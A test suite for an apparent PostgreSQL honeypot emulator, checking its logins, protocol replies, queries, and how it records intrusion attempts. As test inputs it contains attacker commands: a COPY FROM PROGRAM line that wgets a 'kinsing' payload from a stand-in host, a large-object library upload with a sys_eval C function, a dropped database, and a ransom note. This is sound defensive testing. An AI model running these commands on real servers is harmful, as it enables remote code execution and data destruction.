import pg from 'pg'
import { afterEach, describe, expect, it } from 'vitest'
import lure from '../../../src/emulators/postgresql/index.ts'
import { type Playing, type PlayOptions, play } from '../../harness.ts'
import { FileHosts } from '../file-hosts.ts'
import truth from './truth.json' with { type: 'json' }

let playing: Playing
const clients: pg.Client[] = []
afterEach(async () => {
  for (const client of clients.splice(0)) await client.end().catch(() => undefined)
  await playing.stop()
})

async function serve(given: PlayOptions = {}): Promise<FileHosts> {
  const hosts = new FileHosts({}, ['/tmp', '/var/lib/postgresql/15/main'])
  playing = await play(lure, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts, ...given })
  return hosts
}

async function logIn(config: pg.ClientConfig = {}): Promise<pg.Client> {
  const client = new pg.Client({
    host: '127.0.0.1',
    port: playing.port(),
    user: 'postgres',
    password: 'letmein',
    database: 'shop',
    ...config,
  })
  client.on('error', () => undefined)
  clients.push(client)
  await client.connect()
  return client
}

const login = { policy: 'list', accept: [{ user: 'postgres', password: 'letmein' }] }

describe('a login', () => {
  it.each(['scram-sha-256', 'md5', 'password'])('is judged by the policy with %s', async (authentication) => {
    await serve({ options: { login, authentication } })
    await logIn()
    await expect(logIn({ password: 'kX9!vv' })).rejects.toMatchObject({
      code: '28P01',
      severity: 'FATAL',
      message: 'password authentication failed for user "postgres"',
      file: 'auth.c',
      routine: 'auth_failed',
    })
    expect(playing.data('login').map(({ accepted }) => accepted)).toEqual([true, false])
  })

  it('shows a common password in clear though SCRAM hides it, and keeps the exchange of another', async () => {
    await serve({ options: { login } })
    await expect(logIn({ password: 'qwerty123' })).rejects.toMatchObject({ code: '28P01' })
    await expect(logIn({ password: 'kX9!vv' })).rejects.toMatchObject({ code: '28P01' })
    expect(playing.data('login')).toMatchObject([
      { method: 'scram-sha-256', username: 'postgres', password: 'qwerty123', accepted: false },
      { method: 'scram-sha-256', username: 'postgres', accepted: false },
    ])
    expect(playing.data('postgresql.scram')).toMatchObject([{ user: 'postgres', iterations: 4096 }])
  })

  it('gives hashcat its line for md5', async () => {
    await serve({ options: { login, authentication: 'md5' } })
    await expect(logIn({ password: 'kX9!vv' })).rejects.toMatchObject({ code: '28P01' })
    expect(playing.data<{ hash: { mode: number; line: string } }>('login')[0]?.hash).toMatchObject({
      mode: 11100,
      line: expect.stringMatching(/^\$postgres\$postgres\*[0-9a-f]{8}\*[0-9a-f]{32}$/),
    })
  })

  it('goes through TLS with channel binding offered', async () => {
    await serve({ options: { login } })
    const client = await logIn({ ssl: { rejectUnauthorized: false } })
    expect((await client.query('select 1 as one')).rows).toEqual([{ one: 1 }])
    expect(playing.data('postgresql.client')).toMatchObject([{ tls: true, parameters: { user: 'postgres', database: 'shop' } }])
  })

  it('to a database that is not there ends as the server ends it', async () => {
    await serve({ options: { login } })
    await expect(logIn({ database: 'nosuch' })).rejects.toMatchObject({ code: '3D000', message: 'database "nosuch" does not exist' })
  })
})

describe('the first packet', () => {
  it('is answered as the recorded server does where TLS is off', async () => {
    await serve({ options: { tls: false } })
    const { send, reply_hex } = truth.dialogue[0] as { send: string; reply_hex: string }
    expect((await playing.exchange(Buffer.from(send, 'hex'), { quietMs: 150 })).toString('hex')).toBe(reply_hex)
  })

  it.each([
    [
      `000000a4ff534d42${'00'.repeat(156)}`,
      'E\0\0\0\x8bSFATAL\0VFATAL\0C0A000\0Munsupported frontend protocol 65363.19778: server supports 3.0 to 3.0\0Fpostmaster.c\0L2222\0RProcessStartupPacket\0\0',
    ],
    ['0000000800020000', 'EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\n\0'],
    [
      '0000000800030000',
      'E\0\0\0\x85SFATAL\0VFATAL\0C08P01\0Minvalid startup packet layout: expected terminator as last byte\0Fpostmaster.c\0L2334\0RProcessStartupPacket\0\0',
    ],
    [
      '000000090003000000',
      'E\0\0\0ySFATAL\0VFATAL\0C28000\0Mno PostgreSQL user name specified in startup packet\0Fpostmaster.c\0L2351\0RProcessStartupPacket\0\0',
    ],
    ['0d0a0d0a', ''],
    [Buffer.from('GET / HTTP/1.0\r\n\r\n').toString('hex'), ''],
  ])('%s gets what PostgreSQL 15.18 says', async (sent, reply) => {
    await serve()
    expect((await playing.exchange(Buffer.from(sent, 'hex'), { end: true })).toString('latin1')).toBe(reply)
  })
})

describe('the database', () => {
  it('answers a driver: types, parameters, errors with their place', async () => {
    await serve({ options: { login } })
    const client = await logIn()
    const { rows, fields } = await client.query('select id, name, created_at from customers where id = $1 and name <> $2', [1, 'nobody'])
    expect(rows[0]).toMatchObject({ id: 1, name: expect.any(String), created_at: expect.any(Date) })
    expect(fields.map((field) => field.dataTypeID)).toEqual([23, 1043, 1114])
    await expect(client.query('select nosuch from customers')).rejects.toMatchObject({
      code: '42703',
      position: '8',
      routine: 'errorMissingColumn',
    })
    expect((await client.query("insert into settings values ('a', 'b') returning name")).rows).toEqual([{ name: 'a' }])
    expect((await client.query({ name: 'named', text: 'select $1::int + 1 as n', values: [41] })).rows).toEqual([{ n: 42 }])
    expect((await client.query('show server_version_num')).rows).toEqual([{ server_version_num: '150018' }])
  })

  it('undoes all statements of a text when one fails, and aborts a transaction', async () => {
    await serve({ options: { login } })
    const client = await logIn()
    await expect(client.query("insert into settings values ('x', 'y'); select nosuch")).rejects.toMatchObject({ code: '42703' })
    expect((await client.query("select * from settings where name = 'x'")).rowCount).toBe(0)
    await client.query('begin')
    await expect(client.query('select nosuch')).rejects.toMatchObject({ code: '42703' })
    await expect(client.query('select 1')).rejects.toMatchObject({ code: '25P02' })
    await client.query('rollback')
    expect((await client.query('select 1 as one')).rows).toEqual([{ one: 1 }])
  })

  it('runs COPY FROM PROGRAM on the simulated host', async () => {
    const hosts = await serve({ options: { login } })
    const client = await logIn()
    await client.query(
      "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'wget http://203.0.113.9/kinsing'",
    )
    expect((await client.query('SELECT * FROM cmd_exec')).rows).toEqual([{ cmd_output: 'ran wget http://203.0.113.9/kinsing as postgres' }])
    expect(hosts.ran).toEqual([{ command: 'wget http://203.0.113.9/kinsing', user: 'postgres' }])
    expect(playing.data('postgresql.host-command')).toMatchObject([{ command: 'wget http://203.0.113.9/kinsing' }])
  })

  it('takes a library through a large object, and refuses the C library', async () => {
    const hosts = await serve({ options: { login } })
    const client = await logIn()
    await client.query("select lo_from_bytea(4444, decode('7f454c46', 'hex')); select lo_export(4444, '/tmp/pg.so')")
    expect(hosts.files.get('/tmp/pg.so')?.toString('hex')).toBe('7f454c46')
    await client.query("create or replace function sys_eval(text) returns text as '/tmp/pg.so', 'sys_eval' language c strict")
    expect((await client.query("select sys_eval('id') as out")).rows).toEqual([{ out: 'ran id as postgres\n' }])
    expect(playing.data('postgresql.file-write')).toMatchObject([{ path: '/tmp/pg.so', how: 'lo_export' }])
    hosts.files.set('/lib/x86_64-linux-gnu/libc.so.6', Buffer.from('x'))
    await expect(
      client.query("create function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6', 'system' language c"),
    ).rejects.toMatchObject({ message: expect.stringContaining('missing magic block') })
  })

  it('loses what is dropped, and keeps the note', async () => {
    await serve({ options: { login } })
    const client = await logIn({ database: 'postgres' })
    await client.query('drop database shop')
    await client.query("create table readme(t text); insert into readme values ('0.02 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa')")
    expect((await client.query("select datname from pg_database where datname not like 'template%'")).rows).toEqual([
      { datname: 'postgres' },
    ])
    expect(playing.data('postgresql.destroyed')).toMatchObject([{ what: 'database', name: 'shop' }])
    expect(playing.data('indicator')).toMatchObject([{ kind: 'wallet' }])
  })

  it('waits for pg_sleep', async () => {
    await serve({ options: { login } })
    const client = await logIn()
    const startedAt = performance.now()
    await client.query('select case when 1=1 then pg_sleep(0.3) else pg_sleep(0) end')
    expect(performance.now() - startedAt).toBeGreaterThan(290)
  })
})
